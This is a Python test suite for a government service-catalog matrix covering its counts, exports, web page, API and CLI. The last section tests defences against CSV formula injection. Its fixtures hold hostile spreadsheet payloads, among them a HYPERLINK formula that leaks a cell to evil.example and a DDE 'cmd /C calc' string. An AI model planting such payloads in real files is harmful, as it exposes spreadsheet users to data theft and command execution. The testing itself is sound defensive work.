"""The service matrix on the mini catalog: cells, totals, leads, exports, the page and the API."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.app import create_app
from api.settings import Settings
from cli.main import app
from graph.errors import NotFound
from graph.matrix import ServiceMatrix, service_matrix
from graph.model import Catalog
from graph.stores.factory import embedded_backend
from graph.stores.memory import MemoryStore
from loaders import load_catalog
from viz.service_matrix import (
    matrix_csv,
    matrix_frame,
    matrix_html,
    matrix_xlsx,
    neutralise,
    shade,
)

CONSTRUCTION, KAIGONG = "nev.construction", "nev.construction/kaigong_bundle"
CIRCULATION, CAR_SALES = "nev.circulation", "nev.circulation/car_sales"


@pytest.fixture
def matrix(mini_store: MemoryStore) -> ServiceMatrix:
    return service_matrix(mini_store, "nev")


def counts(m: ServiceMatrix) -> dict[tuple[str, str], int]:
    return {(c.row, c.column): c.count for c in m.cells if c.count}


def test_rows_are_stages_in_chain_order_each_followed_by_its_bundles(matrix: ServiceMatrix) -> None:
    assert [(r.key, r.kind) for r in matrix.rows] == [
        (CONSTRUCTION, "stage"),
        (KAIGONG, "bundle"),
        (CIRCULATION, "stage"),
        (CAR_SALES, "bundle"),
    ]
    assert [r.name for r in matrix.rows] == ["建设", "开工一件事", "流通", "汽车销售一件事"]


def test_cells_count_distinct_matters_per_department(matrix: ServiceMatrix) -> None:
    # 建设: 规划许可 (gh); 施工许可, 竣工备案 and the 消防审查 an answer may add (zj); 人防 (rf).
    assert counts(matrix) == {
        (CONSTRUCTION, "gh"): 1,
        (CONSTRUCTION, "zj"): 3,
        (CONSTRUCTION, "rf"): 1,
        (KAIGONG, "zj"): 1,
        (KAIGONG, "rf"): 1,
        (CIRCULATION, "sj"): 1,
        (CIRCULATION, "sw"): 1,
        (CAR_SALES, "sj"): 1,
        (CAR_SALES, "sw"): 1,
    }
    cell = matrix.cell(CONSTRUCTION, "zj")
    assert cell is not None and [m.id for m in cell.matters] == ["jgba", "sgxk", "xfsc"]
    assert matrix.cell(CIRCULATION, "zj") is None


def test_totals_count_each_matter_once(matrix: ServiceMatrix) -> None:
    assert [r.total for r in matrix.rows] == [5, 2, 2, 2]
    assert [(c.id, c.total) for c in matrix.columns] == [
        ("zj", 3),
        ("gh", 1),
        ("rf", 1),
        ("sj", 1),
        ("sw", 1),
    ]
    assert matrix.total == 7 == sum(c.total for c in matrix.columns)


def test_lead_departments_are_marked(matrix: ServiceMatrix) -> None:
    leads = {(c.row, c.column) for c in matrix.cells if c.lead}
    assert leads == {(CONSTRUCTION, "zj"), (KAIGONG, "zj"), (CIRCULATION, "sw"), (CAR_SALES, "sw")}
    assert [r.lead_departments for r in matrix.rows] == [["zj"], ["zj"], ["sw"], ["sw"]]


def test_a_lead_that_handles_nothing_gets_a_marked_empty_cell(mini_copy: Path) -> None:
    bundles = mini_copy / "bundles.csv"
    bundles.write_text(
        bundles.read_text(encoding="utf-8").replace(
            "car_sales,汽车销售一件事,chain_special,sw", "car_sales,汽车销售一件事,chain_special,zj"
        ),
        encoding="utf-8",
    )
    m = service_matrix(MemoryStore(load_catalog(mini_copy)), "nev")
    cell = m.cell(CAR_SALES, "zj")
    assert cell is not None and cell.lead and cell.count == 0
    html = matrix_html(m)
    assert re.search(r'<td data-col="zj" data-count="0" class="lead"[^>]*></td>', html)


def test_every_industry_when_none_is_given(mini_store: MemoryStore, matrix: ServiceMatrix) -> None:
    every = service_matrix(mini_store, None)
    assert [r.key for r in every.rows] == [r.key for r in matrix.rows]
    assert [i.id for i in every.industries] == ["nev"]


def test_unknown_industry_is_not_found(mini_store: MemoryStore) -> None:
    with pytest.raises(NotFound):
        service_matrix(mini_store, "nope")


def test_frame_and_csv_hold_the_same_numbers(matrix: ServiceMatrix) -> None:
    frame = matrix_frame(matrix)
    assert list(frame.columns) == [
        "产业",
        "阶段",
        "类型",
        "名称",
        "牵头部门",
        "住房和城乡建设局",
        "自然资源和规划局",
        "人民防空办公室",
        "市场监督管理局",
        "商务局",
        "合计",
    ]
    csv = matrix_csv(matrix)
    assert csv.startswith(b"\xef\xbb\xbf")  # BOM: Excel on Windows reads the Chinese right
    back = pd.read_csv(io.BytesIO(csv), encoding="utf-8-sig", keep_default_na=False)
    assert back["住房和城乡建设局"].tolist() == [3, 1, 0, 0, 3]
    assert back["合计"].tolist() == [5, 2, 2, 2, 7]
    zj, sw = "住房和城乡建设局", "商务局"
    assert back["牵头部门"].tolist()[:4] == [zj, zj, sw, sw]


def test_xlsx_is_shaded_blank_for_zero_and_bold_for_leads(matrix: ServiceMatrix) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(matrix)))["服务矩阵"]
    header = [c.value for c in sheet[1]]
    zj = header.index("住房和城乡建设局") + 1
    sj = header.index("市场监督管理局") + 1
    assert sheet.cell(row=2, column=zj).value == 3 and sheet.cell(row=2, column=zj).font.b
    assert sheet.cell(row=2, column=sj).value is None  # zero is blank
    fill = sheet.cell(row=2, column=zj).fill.fgColor.rgb.lower()
    assert fill.endswith(shade(3, 3).background[1:])
    assert sheet.cell(row=6, column=header.index("合计") + 1).value == 7


def test_shade_runs_light_to_dark_over_the_whole_table() -> None:
    assert shade(1, 5).background == "#eef4fb"
    assert shade(5, 5).background == "#174a8b" and shade(5, 5).text == "#ffffff"
    assert shade(1, 1).background == "#eef4fb"


def test_page_shows_counts_tooltips_totals_and_blanks(matrix: ServiceMatrix) -> None:
    html = matrix_html(matrix)
    assert '<html lang="zh-CN">' in html and "服务矩阵 · 新能源汽车" in html
    assert re.search(r'data-col="zj" data-count="3" class="lead"', html)
    tip = "建设 × 住房和城乡建设局：3 项事项\n· 房屋建筑和市政基础设施工程竣工验收备案\n"
    assert f'title="{tip}' in html
    assert re.search(r'data-row-total="nev.construction">5<', html)
    assert re.search(r'data-col-total="zj">3<', html)
    assert re.search(r"data-grand-total>7<", html)
    assert html.count("<td></td>") == 4 * 5 - len(matrix.cells)
    assert "export-csv" not in html  # a file written by the CLI has no server to export from


def test_api_json_matches_the_domain(client: TestClient, matrix: ServiceMatrix) -> None:
    body = client.get("/v1/service-matrix", params={"industry": "nev"}).json()
    assert [r["key"] for r in body["rows"]] == [r.key for r in matrix.rows]
    assert {(c["row"], c["column"]): c["count"] for c in body["cells"] if c["count"]} == counts(
        matrix
    )
    assert body["total"] == 7
    assert body["rows"][0]["industry"] == {"id": "nev", "name": "新能源汽车"}
    jgba = {"id": "jgba", "name": "房屋建筑和市政基础设施工程竣工验收备案"}
    assert body["cells"][2]["matters"][0] == jgba


def test_api_page_links_its_exports_and_they_download(client: TestClient) -> None:
    page = client.get("/v1/viz/service-matrix", params={"industry": "nev"})
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    links = re.findall(r'href="(service-matrix\?[^"]+)"', page.text)
    assert links == [
        "service-matrix?industry=nev&amp;format=csv",
        "service-matrix?industry=nev&amp;format=xlsx",
    ]
    csv = client.get("/v1/viz/service-matrix?industry=nev&format=csv")
    assert csv.headers["content-disposition"] == 'attachment; filename="service-matrix-nev.csv"'
    assert "住房和城乡建设局" in csv.content.decode("utf-8-sig")
    xlsx = client.get("/v1/viz/service-matrix?format=xlsx")
    assert openpyxl.load_workbook(io.BytesIO(xlsx.content)).sheetnames == ["服务矩阵"]


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/v1/service-matrix?industry=nope", 404),
        ("/v1/viz/service-matrix?industry=nope", 404),
        ("/v1/viz/service-matrix?format=pdf", 422),
    ],
)
def test_api_errors_are_problem_json(client: TestClient, url: str, status: int) -> None:
    response = client.get(url)
    assert response.status_code == status
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["status"] == status


@pytest.mark.parametrize(
    ("fmt", "magic"), [("html", b"<!DOCTYPE html>"), ("csv", b"\xef\xbb\xbf"), ("xlsx", b"PK")]
)
def test_cli_writes_each_format(mini_path: Path, tmp_path: Path, fmt: str, magic: bytes) -> None:
    target = tmp_path / f"m.{fmt}"
    result = CliRunner().invoke(
        app,
        [
            "viz",
            "service-matrix",
            "--industry",
            "nev",
            "--format",
            fmt,
            "-o",
            str(target),
            "--data",
            str(mini_path),
        ],
    )
    assert result.exit_code == 0, result.output
    assert target.read_bytes().startswith(magic)
    assert f"wrote {target}" in result.stderr


# --- formula injection (OWASP CSV injection) ---------------------------------------------------

HOSTILE = {
    # what a catalog may name a bundle or a department; each starts a formula in a spreadsheet
    "car_sales": '=HYPERLINK("http://evil.example/?x="&A1,"汽车销售一件事")',
    "kaigong_bundle": "+1+cmd|' /C calc'!A0",
    "zj": "-2+3",
    "gh": "@SUM(1,2)",
    "rf": "\t=1+1",
    "sw": "\r=1+1",
    "sj": "市场\r=1+1",  # a CR inside a name must not start a new CSV row
}


@pytest.fixture
def hostile(mini_catalog: Catalog) -> ServiceMatrix:
    """The mini matrix with bundles and departments named like formulas (tab and CR included,
    which the CSV loader would strip, so the names are set on the records)."""
    bundles = {
        k: dataclasses.replace(b, name=HOSTILE.get(k, b.name))
        for k, b in mini_catalog.bundles.items()
    }
    departments = {
        k: dataclasses.replace(d, name=HOSTILE.get(k, d.name))
        for k, d in mini_catalog.departments.items()
    }
    catalog = dataclasses.replace(mini_catalog, bundles=bundles, departments=departments)
    return service_matrix(MemoryStore(catalog), "nev")


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("汽车销售一件事", "汽车销售一件事"),
        ("a=1", "a=1"),  # only the first character counts
        ("", ""),
        (3, 3),  # numbers stay numbers
        (-3, -3),
    ],
)
def test_neutralise_quotes_what_a_spreadsheet_would_run(value: object, exported: object) -> None:
    assert neutralise(value) == exported


def _triggered(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_has_no_cell_a_spreadsheet_would_run(hostile: ServiceMatrix) -> None:
    rows = list(csv.reader(io.StringIO(matrix_csv(hostile).decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(hostile.rows) + 1  # header, rows, totals: no row split by a CR
    assert {len(row) for row in rows} == {len(rows[0])}
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _triggered(c)]
    for name in HOSTILE.values():
        assert ("'" + name if _triggered(name) else name) in cells, name  # header or 名称
    header = rows[0]
    assert "'-2+3" in header and "'@SUM(1,2)" in header
    # the lead column joins department names: its first one is neutralised too
    assert rows[1][header.index("牵头部门")] == "'-2+3"


def test_xlsx_export_stores_no_formula(hostile: ServiceMatrix) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(hostile)))["服务矩阵"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if _triggered(t)]
    for name in HOSTILE.values():
        stored = "'" + name if _triggered(name) else name
        # XML reads a stored CR back as LF (line-end normalisation); it is text either way
        assert stored.replace("\r", "\n") in texts, name
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    # the counts are still numbers
    assert sheet.cell(row=len(hostile.rows) + 2, column=len(hostile.columns) + 6).value == 7


def test_api_exports_are_neutralised_too(hostile: ServiceMatrix, mini_catalog: Catalog) -> None:
    bundles = dict(mini_catalog.bundles)
    bundles["car_sales"] = dataclasses.replace(bundles["car_sales"], name=HOSTILE["car_sales"])
    catalog = dataclasses.replace(mini_catalog, bundles=bundles)
    app = create_app(Settings(), backend=embedded_backend(catalog))
    with TestClient(app) as client:
        body = client.get("/v1/viz/service-matrix?industry=nev&format=csv").content
        xlsx = client.get("/v1/viz/service-matrix?industry=nev&format=xlsx").content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert "'" + HOSTILE["car_sales"] in [cell for row in rows for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx))["服务矩阵"]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
